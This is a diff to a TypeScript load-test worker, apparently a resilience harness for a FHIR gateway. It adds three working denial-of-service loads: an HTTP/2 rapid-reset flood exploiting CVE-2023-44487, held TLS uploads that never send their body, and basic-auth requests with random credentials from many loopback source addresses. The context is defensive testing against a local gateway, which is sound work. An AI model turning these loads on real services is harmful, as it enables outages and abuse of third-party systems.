@@ -7,6 +7,11 @@
  * process with the caller, delayed the caller's own clock, which then counted
  * the delay as the server's.
  *
+ * Issue 45's gateway loads: h2-rapid-reset (HTTP/2 streams opened and reset
+ * at once by a key holder), gateway-held-uploads (TLS POSTs through key-auth
+ * whose body never comes) and basic-auth-unknown-users (basic-auth with
+ * random usernames from many 127.3.x.y addresses).
+ *
  * Socket loads (idle, slowloris, slow bodies) hold sockets; with `reopen`, a
  * socket the server closes is opened again at once. Request loads (flood,
  * bundle, large-array, lone-surrogate) send the same request again as soon as each answer ends, `concurrency`
@@ -14,7 +19,10 @@
  * load and answers `{ started: true }`; on `'stop'` it stops, answers
  * `{ detail }` and exits.
  */
+import { randomBytes } from 'node:crypto';
+import { connect as h2connect, constants as h2constants, type ClientHttp2Session } from 'node:http2';
 import { connect, type Socket } from 'node:net';
+import { connect as tlsConnect } from 'node:tls';
 import { Agent, request } from 'undici';
 
 /** The Content-Length a slow body announces. */
@@ -22,7 +30,21 @@ export const SLOW_BODY_BYTES = 60_000;
 
 export type SocketKind = 'idle' | 'slowloris' | 'slow-bodies' | 'held-uploads';
 export type RequestKind = 'flood' | 'bundle' | 'large-array' | 'lone-surrogate';
-export type AttackKind = SocketKind | RequestKind;
+/** Issue 45's loads on the gateway by a key or password holder, or a stranger with many addresses. */
+export type GatewayKind = 'h2-rapid-reset' | 'gateway-held-uploads' | 'basic-auth-unknown-users';
+export type AttackKind = SocketKind | RequestKind | GatewayKind;
+
+export interface GatewayPlan {
+  kind: GatewayKind;
+  /** https://host:port of the gateway's TLS proxy, verified against `ca`. */
+  origin: string;
+  ca: string;
+  /** The path attacked (with its query). */
+  path: string;
+  headers: Record<string, string>;
+  /** h2-rapid-reset: HTTP/2 connections; gateway-held-uploads: uploads held; basic-auth-unknown-users: source addresses (127.3.x.y). */
+  count: number;
+}
 
 export interface SocketPlan {
   kind: SocketKind;
@@ -52,7 +74,7 @@ export interface RequestPlan {
   expect: number[];
 }
 
-export type AttackPlan = SocketPlan | RequestPlan;
+export type AttackPlan = SocketPlan | RequestPlan | GatewayPlan;
 
 /** A transaction Bundle of `n` new Patients, each with its own urn:uuid fullUrl. */
 export function bundleBody(n: number): string {
@@ -98,6 +120,137 @@ function requests(plan: RequestPlan): () => Promise<string> {
     await agent.close();
     return `${sent} sent, ${answered} answered as expected (${[...statuses].map(([k, n]) => `${k}×${n}`).join(' ')})`;
   };
+}
+
+/**
+ * h2-rapid-reset: `count` HTTP/2 connections, each opening streams and resetting them at once (CVE-2023-44487),
+ * a connection the gateway closes opened again.
+ */
+function rapidReset(plan: GatewayPlan): () => Promise<string> {
+  let running = true;
+  let streams = 0;
+  let sessions = 0;
+  let goaways = 0;
+  const one = async (): Promise<void> => {
+    while (running) {
+      const session = await new Promise<ClientHttp2Session | null>((resolve) => {
+        const s = h2connect(plan.origin, { ca: plan.ca });
+        const timer = setTimeout(() => {
+          s.destroy();
+          resolve(null);
+        }, 5_000);
+        s.once('remoteSettings', () => {
+          clearTimeout(timer);
+          resolve(s);
+        });
+        s.once('error', () => undefined);
+        s.once('close', () => {
+          clearTimeout(timer);
+          resolve(null);
+        });
+      });
+      if (session === null) {
+        await new Promise((r) => setTimeout(r, 100));
+        continue;
+      }
+      sessions += 1;
+      session.on('error', () => undefined);
+      session.once('goaway', () => (goaways += 1));
+      // A connection the gateway closed may go unnoticed by a client busy resetting: a new one every 2 s.
+      const until = Date.now() + 2_000;
+      while (running && !session.closed && !session.destroyed && Date.now() < until) {
+        for (let i = 0; i < 50 && !session.closed && !session.destroyed; i++) {
+          try {
+            const st = session.request({ ':path': plan.path, ...plan.headers });
+            st.on('error', () => undefined);
+            st.close(h2constants.NGHTTP2_CANCEL);
+            streams += 1;
+          } catch {
+            break;
+          }
+        }
+        await new Promise((r) => setImmediate(r));
+      }
+      session.destroy();
+    }
+  };
+  const workers = Array.from({ length: plan.count }, one);
+  return async () => {
+    running = false;
+    await Promise.all(workers);
+    return `${streams} streams opened and reset on ${sessions} connections, ${goaways} GOAWAY seen`;
+  };
+}
+
+/** gateway-held-uploads: `count` TLS POSTs announcing a body and sending one byte of it, each closed one opened again. */
+function heldUploads(plan: GatewayPlan): () => Promise<string> {
+  const url = new URL(plan.origin);
+  const held = new Set<Socket>();
+  let opened = 0;
+  let answered = 0;
+  let stopping = false;
+  const head = `POST ${plan.path} HTTP/1.1\r\nHost: ${url.host}\r\nContent-Type: application/fhir+json\r\nContent-Length: ${SLOW_BODY_BYTES}\r\n${Object.entries(plan.headers).map(([k, v]) => `${k}: ${v}\r\n`).join('')}\r\n{`;
+  const one = (): void => {
+    if (stopping) return;
+    const s = tlsConnect({ host: url.hostname, port: Number(url.port), ca: plan.ca, servername: url.hostname, ALPNProtocols: ['http/1.1'] }, () => {
+      opened += 1;
+      s.write(head);
+    });
+    held.add(s);
+    s.on('data', () => (answered += 1));
+    s.on('error', () => undefined);
+    s.once('close', () => {
+      held.delete(s);
+      if (!stopping) setTimeout(one, 100);
+    });
+  };
+  for (let i = 0; i < plan.count; i++) one();
+  return async () => {
+    stopping = true;
+    for (const s of held) s.destroy();
+    return `${opened} uploads opened, ${answered} answers read`;
+  };
+}
+
+/** basic-auth-unknown-users: basic-auth with a random username and password each time, from `count` addresses 127.3.x.y, 2 at a time each. */
+function unknownUsers(plan: GatewayPlan): () => Promise<string> {
+  let running = true;
+  const statuses = new Map<string, number>();
+  const agents = Array.from({ length: plan.count }, (_, i) => new Agent({ connect: { ca: plan.ca }, localAddress: `127.3.${Math.floor(i / 250)}.${(i % 250) + 1}` }));
+  const workers = agents.flatMap((agent) =>
+    Array.from({ length: 2 }, async () => {
+      while (running) {
+        const auth = Buffer.from(`u-${randomBytes(6).toString('hex')}:${randomBytes(6).toString('hex')}`).toString('base64');
+        let status: string;
+        try {
+          const res = await request(`${plan.origin}${plan.path}`, { dispatcher: agent, headers: { ...plan.headers, authorization: `Basic ${auth}` }, headersTimeout: 60_000 });
+          await res.body.dump();
+          status = String(res.statusCode);
+        } catch (err) {
+          status = (err as { code?: string }).code ?? 'network';
+          if (!running) break;
+        }
+        statuses.set(status, (statuses.get(status) ?? 0) + 1);
+      }
+    }),
+  );
+  return async () => {
+    running = false;
+    await Promise.all(agents.map((a) => a.destroy()));
+    await Promise.all(workers);
+    return `from ${plan.count} addresses: ${[...statuses].map(([k, n]) => `${k}×${n}`).join(' ')}`;
+  };
+}
+
+function gatewayLoad(plan: GatewayPlan): () => Promise<string> {
+  switch (plan.kind) {
+    case 'h2-rapid-reset':
+      return rapidReset(plan);
+    case 'gateway-held-uploads':
+      return heldUploads(plan);
+    case 'basic-auth-unknown-users':
+      return unknownUsers(plan);
+  }
 }
 
 function open(port: number): Promise<Socket | null> {
@@ -174,7 +327,7 @@ if (process.send) {
       void (stop ? stop() : Promise.resolve('never started')).then((detail) => process.send!({ detail }, () => process.exit(0)));
       return;
     }
-    void ('url' in msg ? Promise.resolve(requests(msg)) : sockets(msg)).then((s) => {
+    void ('origin' in msg ? Promise.resolve(gatewayLoad(msg)) : 'url' in msg ? Promise.resolve(requests(msg)) : sockets(msg)).then((s) => {
       stop = s;
       process.send!({ started: true });
     });
